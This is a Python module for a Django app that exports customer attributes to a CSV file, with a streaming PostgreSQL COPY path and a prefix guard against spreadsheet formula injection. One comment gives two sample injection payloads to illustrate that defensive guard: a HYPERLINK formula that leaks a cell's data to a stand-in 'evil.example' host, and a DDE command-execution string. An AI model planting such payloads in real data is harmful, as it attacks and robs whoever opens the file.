"""CSV file destination: `customers.csv` in the project's storage, streamed in constant memory.

Columns: `customer_entity_id`, then the destination's attributes in order. Cell format (the same from the COPY
fast path and the Python path):
- no value: an empty cell;
- one value: the value itself (`jane@example.com`, `42`, `true`, `2026-11-01`);
- several values (attributes are lists, e.g. a customer's emails): a JSON array, `["a@x.com", "b@y.com"]`;
- with `spreadsheet_safe` (the default), a cell a spreadsheet would run as a formula gets a leading `'`.

When the export's members come from the database (`context.members_sql`), the file is produced by PostgreSQL
`COPY (SELECT ...) TO STDOUT (FORMAT csv)` and written as it streams; otherwise rows are formatted in Python.
The file is written under a temporary name and moved into place at the end, so a download never sees half a
file and a re-run simply overwrites it (the loader is idempotent).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import tempfile
from collections.abc import Iterable
from typing import Any

from django.core.files import File
from django.core.files.storage import default_storage
from django.db import connection

from loaders.base import ConfigField, Customer, LoadContext, Loader, LoadResult, batched

ID_COLUMN = "customer_entity_id"
PROGRESS_EVERY = 50_000  # rows between progress reports


def cell_sql(attribute_id: str) -> str:
    """The SQL expression for one attribute's cell (see the module docstring for the format)."""
    value = f"e.attributes -> '{attribute_id}'"
    return (
        f"CASE jsonb_typeof({value}) WHEN 'array' THEN CASE jsonb_array_length({value}) WHEN 0 THEN NULL "
        f"WHEN 1 THEN ({value}) ->> 0 ELSE ({value})::text END ELSE e.attributes ->> '{attribute_id}' END"
    )


# A spreadsheet runs a cell starting with one of these as a formula (CSV injection: a customer who signs up as
# `=HYPERLINK("https://evil.example/?"&A2, "Click")` or `@SUM(1+1)*cmd|' /C calc'!A0` attacks whoever opens the
# export). Such cells get a leading `'` (OWASP's advice), except number-like ones (`-5`, `+44 20 7946 0958`): without
# letters a formula can call nothing, and phone numbers and negative numbers stay as they are.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER_LIKE = re.compile(r"[-+]?[0-9][0-9 ().,eE+-]*")
NUMBER_LIKE_SQL = "^[-+]?[0-9][0-9 ().,eE+-]*$"


def formula_safe(text: str) -> str:
    """The cell as a spreadsheet shows it as text (see FORMULA_START)."""
    if text.startswith(FORMULA_START) and not NUMBER_LIKE.fullmatch(text):
        return "'" + text
    return text


def formula_safe_sql(column: str) -> str:
    """The SQL twin of `formula_safe` on a text column."""
    return (
        f"CASE WHEN left({column}, 1) IN ('=', '+', '-', '@', E'\\t', E'\\r') "
        f"AND {column} !~ '{NUMBER_LIKE_SQL}' THEN '''' || {column} ELSE {column} END"
    )


def _scalar(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return value
    if isinstance(value, int | float):
        return json.dumps(value)
    return json.dumps(value, ensure_ascii=False)


def cell(value: Any) -> str:
    """The Python twin of `cell_sql`."""
    if isinstance(value, list):
        if not value:
            return ""
        if len(value) == 1:
            return _scalar(value[0])
        return json.dumps(value, ensure_ascii=False)  # jsonb::text renders arrays the same way
    return _scalar(value)


class CsvLoader(Loader):
    kind = "csv"
    label = "CSV file"
    produces_file = True
    fields = (
        ConfigField(
            "file_name",
            default="customers.csv",
            max_length=100,
            pattern=r"[A-Za-z0-9][A-Za-z0-9._-]*\.csv",
            pattern_message="must be a plain file name ending in .csv (letters, digits, . _ -).",
            help="Name of the file in each export's folder.",
        ),
        ConfigField(
            "attributes", kind="list", default=[], help="Attribute ids to export, in column order.", attribute=True
        ),
        ConfigField("delimiter", kind="choice", choices=(",", ";", "\t", "|"), default=",", help="Column separator."),
        ConfigField(
            "spreadsheet_safe",
            kind="bool",
            default=True,
            help="Prefix values a spreadsheet would run as a formula (starting with = + - @) with ' (CSV "
            "injection). Turn off when only a program reads the file.",
        ),
    )

    def columns(self, context: LoadContext | None) -> list[str]:
        attributes = list(self.config["attributes"])
        for attribute_id in (context.attributes if context else None) or []:
            if attribute_id not in attributes:
                attributes.append(attribute_id)
        return attributes

    def attributes_required(self) -> list[str]:
        return list(self.config["attributes"])

    def file_name(self, context: LoadContext) -> str:
        folder = f"exports/{context.export_id}" if context.export_id is not None else "exports/adhoc"
        return f"{folder}/{self.config['file_name']}"

    def load(self, customers: Iterable[Customer], *, context: LoadContext | None = None) -> LoadResult:
        context = context or LoadContext()
        storage = context.storage or default_storage
        attributes = self.columns(context)
        name = self.file_name(context)
        result = LoadResult()
        with _StorageWriter(storage, name) as out:
            out.write(self._header(attributes))
            if context.members_sql is not None or context.members_condition is not None:
                result.sent = self._copy(out, attributes, context)
            else:
                result.sent = self._write_rows(out, customers, attributes, context)
        result.details = {"file": name, "columns": [ID_COLUMN, *attributes]}
        context.log(f"Wrote {result.sent} rows to {name}.")
        return result

    def _header(self, attributes: list[str]) -> bytes:
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=self.config["delimiter"], lineterminator="\n").writerow([ID_COLUMN, *attributes])
        return buffer.getvalue().encode("utf-8")

    def _copy(self, out: _StorageWriter, attributes: list[str], context: LoadContext) -> int:
        for attribute_id in attributes:
            if "'" in attribute_id or "\\" in attribute_id:
                raise ValueError(f"invalid attribute id {attribute_id!r}")
        if self.config["spreadsheet_safe"]:
            values = "".join(f", {cell_sql(a)} AS c{i}" for i, a in enumerate(attributes))
            cells = "".join(f", {formula_safe_sql(f'm_.c{i}')}" for i in range(len(attributes)))
        else:
            cells = "".join(f", {cell_sql(a)}" for a in attributes)
        delimiter_sql = (
            ", DELIMITER E'\\t'" if self.config["delimiter"] == "\t" else f", DELIMITER '{self.config['delimiter']}'"
        )
        if context.members_condition is not None:
            where, params = context.members_condition
            members = f"FROM customer_entities e WHERE ({where})"
        else:
            sql, params = context.members_sql  # type: ignore[misc]
            members = f"FROM customer_entities e JOIN ({sql}) m ON m.id = e.id"
        if self.config["spreadsheet_safe"]:  # each cell computed once, then checked
            select = f"SELECT m_.id{cells} FROM (SELECT e.id{values} {members}) m_ ORDER BY m_.id"
        else:
            select = f"SELECT e.id{cells} {members} ORDER BY e.id"
        statement = f"COPY ({select}) TO STDOUT (FORMAT csv{delimiter_sql})"
        # COPY streams on its own connection, so progress can be recorded on Django's connection meanwhile (a
        # psycopg connection runs one statement at a time). Inside a transaction (tests) the COPY must see its
        # uncommitted rows: it then shares the connection and reports progress only at the end.
        connection.ensure_connection()
        separate = not connection.in_atomic_block
        raw = connection.get_new_connection(connection.get_connection_params()) if separate else connection.connection
        rows = 0
        # Progress during the COPY needs Django's connection free, i.e. the separate one.
        next_report = PROGRESS_EVERY if separate else float("inf")
        try:
            with raw.cursor() as cursor:
                with cursor.copy(statement, params or None) as copy:
                    # PostgreSQL sends one CopyData message per row: the hot loop stays minimal.
                    write = out.write_bytes()
                    for data in copy:
                        write(data)
                        rows += 1
                        if rows >= next_report:
                            next_report += PROGRESS_EVERY
                            context.checkpoint(last_entity_id=None, sent=rows, skipped=0, failed=0)
                rows = cursor.rowcount if cursor.rowcount >= 0 else rows
        finally:
            if separate:
                raw.close()
        context.checkpoint(last_entity_id=None, sent=rows, skipped=0, failed=0)
        return rows

    def _write_rows(
        self, out: _StorageWriter, customers: Iterable[Customer], attributes: list[str], context: LoadContext
    ) -> int:
        rows = 0
        text = io.StringIO()
        writer = csv.writer(text, delimiter=self.config["delimiter"], lineterminator="\n")
        safe = self.config["spreadsheet_safe"]
        for batch in batched(customers, 5_000):
            for customer in batch:
                values = customer.get("attributes") or {}
                cells = (cell(values.get(a)) for a in attributes)
                writer.writerow([customer["id"], *(map(formula_safe, cells) if safe else cells)])
            out.write(text.getvalue().encode("utf-8"))
            text.seek(0)
            text.truncate()
            rows += len(batch)
            context.checkpoint(last_entity_id=None, sent=rows, skipped=0, failed=0)
        return rows


class _StorageWriter:
    """Writes a file into a Django storage in constant memory; the file appears under its name only when complete.

    A filesystem storage gets the bytes directly (a temporary file in the target folder, renamed at the end);
    any other storage gets a spooled temporary file handed to `storage.save` at the end.
    """

    def __init__(self, storage: Any, name: str):
        self.storage = storage
        self.name = name
        self.file: Any = None
        self.temp_path: str | None = None

    def __enter__(self) -> _StorageWriter:
        try:
            target = self.storage.path(self.name)
        except NotImplementedError:
            target = None
        if target:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            fd, self.temp_path = tempfile.mkstemp(dir=os.path.dirname(target), prefix=".partial-", suffix=".csv")
            self.file = os.fdopen(fd, "wb", buffering=1 << 20)
            self.target = target
        else:
            self.file = tempfile.SpooledTemporaryFile(max_size=8 << 20)
        return self

    def write(self, data: bytes | memoryview) -> None:
        self.file.write(data)

    def write_bytes(self):
        """The underlying file's write, for hot loops."""
        return self.file.write

    def __exit__(self, exc_type, exc, tb) -> None:
        if exc_type is not None:
            self.file.close()
            if self.temp_path and os.path.exists(self.temp_path):
                os.unlink(self.temp_path)
            return
        if self.temp_path:
            self.file.close()
            os.replace(self.temp_path, self.target)
        else:
            self.file.seek(0)
            if self.storage.exists(self.name):
                self.storage.delete(self.name)
            self.storage.save(self.name, File(self.file))
            self.file.close()
